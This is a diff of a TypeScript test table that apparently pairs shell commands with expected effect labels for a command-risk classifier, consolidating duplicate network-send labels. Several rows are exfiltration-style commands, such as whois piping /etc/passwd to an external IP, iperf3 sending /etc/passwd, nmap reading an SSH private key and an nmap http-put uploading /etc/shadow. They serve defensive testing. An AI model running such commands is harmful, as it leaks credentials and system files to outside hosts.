@@ -16,10 +16,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['nslookup example.com', ['network:connect example.com']],
   ['host -t mx example.com', ['network:connect example.com']],
   ['whois example.com', ['network:connect whois']],
-  [
-    'whois -h 192.0.2.9 -p 43 "$(cat /etc/passwd)"',
-    ['read:read /etc/passwd', 'network:send 192.0.2.9 external', 'network:send-data external'],
-  ],
+  ['whois -h 192.0.2.9 -p 43 "$(cat /etc/passwd)"', ['read:read /etc/passwd', 'network:send-data 192.0.2.9 external']],
   ['nsupdate -k key', ['read:read key', 'network:configure names']],
   ['nmap -sV -p 80,443 192.0.2.0/24', ['network:scan 192.0.2.0/24 external']],
   ['nmap -iL /root/.ssh/id_rsa', ['read:read /root/.ssh/id_rsa sensitive']],
@@ -45,12 +42,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['iperf3 -c host.example.com', ['network:connect host.example.com external']],
   [
     'iperf3 -c host.example.com -F /etc/passwd',
-    [
-      'network:connect host.example.com external',
-      'read:read /etc/passwd external',
-      'network:send external',
-      'network:send-data external',
-    ],
+    ['network:connect host.example.com external', 'read:read /etc/passwd external', 'network:send-data external'],
   ],
   [
     'nmap --script http-put --script-args http-put.url=/,http-put.file=/etc/shadow 192.0.2.1',
